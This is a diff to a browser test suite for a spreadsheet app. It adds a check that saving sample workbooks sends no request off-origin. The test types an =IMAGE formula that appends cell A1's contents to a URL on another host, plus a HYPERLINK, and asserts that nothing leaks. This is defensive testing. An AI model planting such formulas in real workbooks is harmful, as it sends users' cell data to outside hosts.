@@ -4,9 +4,12 @@ import { readBook } from "../../src/xlsx/readBook.ts";
 import { cellsOf } from "../samples/registryValue.ts";
 import { bench } from "./bench.ts";
 import { fileHands, sampleBytes, withoutLink, type Shown } from "./fileHands.ts";
+import { sheetKeys } from "./sheetKeys.ts";
 
 const t = bench();
 const { says, said, shown, choose, saved } = fileHands(t);
+
+const keys = sheetKeys(t);
 
 const NAMES = ["bid", "compare", "check", "metric"] as const;
 
@@ -26,9 +29,28 @@ function expectShown(seen: Shown, book: Book): void {
   }
 }
 
+/** Types what could fetch from elsewhere, and saves. Says what the page's policy held back, from now on. */
+async function tempted(): Promise<() => Promise<string[]>> {
+  await t.page.evaluate(() => {
+    const broken: string[] = ((window as any).broken = []);
+    addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) =>
+      broken.push(`${effectiveDirective} ${blockedURI}`),
+    );
+  });
+  for (const [i, formula] of [
+    '=IMAGE("http://127.0.0.1:9/a.png?c="&A1)',
+    '=HYPERLINK("http://127.0.0.1:9/")',
+  ].entries())
+    await keys.type(4 + i, 7, [[formula, 0]]);
+  const download = t.page.waitForEvent("download");
+  await t.page.keyboard.press("Control+s");
+  await download;
+  return () => t.page.evaluate(() => (window as any).broken as string[]);
+}
+
 describe("sample workbooks in the bench", () => {
   it.each(NAMES)(
-    "%s opens by name with the values of its file, is saved the same, and opens again the same",
+    "%s opens by name with the values of its file, is saved and opens again the same, and no request leaves",
     async (name) => {
       await t.open(`?sample=${name}`);
       const { book, left } = await readBook(sampleBytes(name), name);
@@ -38,10 +60,13 @@ describe("sample workbooks in the bench", () => {
       const file = await saved();
       expect(file.left).toEqual([]);
       expect(rounded(withoutLink(file.book))).toEqual(rounded(book));
+      const heldBack = await tempted();
       await choose("again.xlsx", file.bytes);
       await said("is open. Undo brings back");
       expect(await says().textContent()).not.toContain("another value");
       expectShown(await shown(), book);
+      expect(t.requests.filter((url) => !url.startsWith(t.url))).toEqual([]);
+      expect(await heldBack()).toEqual([]);
     },
   );
 
